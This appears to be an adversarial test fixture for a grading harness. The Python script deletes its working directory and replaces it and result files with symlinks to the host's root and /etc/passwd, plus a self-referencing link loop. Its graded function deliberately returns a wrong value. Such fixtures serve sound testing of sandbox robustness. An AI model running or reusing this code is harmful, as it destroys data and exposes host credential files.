# Replaces its working folder and its own files by links to the host's: whoever reads or removes them follows the links.
#
# target = "scalar"
# verdict = "failed"
# reason = "The value is wrong"

import os
import shutil

here = os.getcwd()
os.chdir("/")
shutil.rmtree(here)
for name, leads_to in ((here, "/"), ("/tmp/attack-results.json", "/etc/passwd"), ("/tmp/attack-loop", "/tmp/attack-loop")):
    os.symlink(leads_to, name)


def double(x):
    return 0.5
